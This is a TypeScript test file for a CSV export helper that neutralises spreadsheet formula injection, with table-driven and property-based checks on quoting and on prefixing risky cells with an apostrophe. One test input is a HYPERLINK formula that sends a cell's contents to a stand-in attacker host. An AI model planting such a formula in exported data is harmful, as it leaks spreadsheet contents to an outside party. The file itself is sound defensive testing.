import fc from 'fast-check';
import { describe, expect, it } from 'vitest';
import { csvCell, csvRow } from './csv.js';

/** Reads one CSV line the way a spreadsheet would (RFC 4180 quoting), for the round-trip checks. */
function parseLine(line: string): string[] {
  const cells: string[] = [];
  let i = 0;
  const body = line.replace(/\r\n$/, '');
  for (;;) {
    let cell = '';
    if (body[i] === '"') {
      i++;
      while (i < body.length) {
        if (body[i] === '"' && body[i + 1] === '"') {
          cell += '"';
          i += 2;
        } else if (body[i] === '"') {
          i++;
          break;
        } else cell += body[i++];
      }
    } else {
      while (i < body.length && body[i] !== ',') cell += body[i++];
    }
    cells.push(cell);
    if (i >= body.length) return cells;
    i++; // the comma
  }
}

describe('csvCell', () => {
  it.each([
    ['=HYPERLINK("https://evil.example/?"&A1)', `"'=HYPERLINK(""https://evil.example/?""&A1)"`],
    ['+44 7700 900123', "'+44 7700 900123"],
    ['-2+3', "'-2+3"],
    ['@SUM(A1:A9)', "'@SUM(A1:A9)"],
    ['\t=1+1', "'\t=1+1"],
    ['\r=1+1', `"'\r=1+1"`],
  ])('neutralises a cell a spreadsheet would run as a formula: %j', (value, expected) => {
    expect(csvCell(value)).toBe(expected);
  });

  it('leaves ordinary text alone, and quotes commas, quotes, line breaks and edge spaces', () => {
    expect(csvCell('Oriel Pennick')).toBe('Oriel Pennick');
    expect(csvCell('Flat 2, Heron Court')).toBe('"Flat 2, Heron Court"');
    expect(csvCell('She said "not tonight"')).toBe('"She said ""not tonight"""');
    expect(csvCell('line one\nline two')).toBe('"line one\nline two"');
    expect(csvCell(' padded ')).toBe('" padded "');
    expect(csvCell('a=b')).toBe('a=b');
  });

  it('writes numbers, booleans and empty values as such: a negative number is not a formula', () => {
    expect(csvCell(-3)).toBe('-3');
    expect(csvCell(2.5)).toBe('2.5');
    expect(csvCell(Number.NaN)).toBe('');
    expect(csvCell(true)).toBe('true');
    expect(csvCell(null)).toBe('');
    expect(csvCell(undefined)).toBe('');
  });

  it('never writes a cell a spreadsheet reads as starting a formula, and keeps the text otherwise (any string)', () => {
    fc.assert(
      fc.property(fc.string({ unit: 'binary' }), (value) => {
        const [read] = parseLine(csvRow([value]));
        expect(read).toBeDefined();
        expect(/^[=+\-@\t\r]/.test(read!)).toBe(false);
        expect(read).toBe(/^[=+\-@\t\r]/.test(value) ? `'${value}` : value);
      }),
      { numRuns: 500 },
    );
  }, 60_000);
});

describe('csvRow', () => {
  it('joins the cells with commas and ends with CRLF, and reads back cell for cell', () => {
    const row = csvRow(['Pennick', '=1+1', 'a,b', 7, null]);
    expect(row).toBe(`Pennick,'=1+1,"a,b",7,\r\n`);
    expect(parseLine(row)).toEqual(['Pennick', "'=1+1", 'a,b', '7', '']);
  });
});
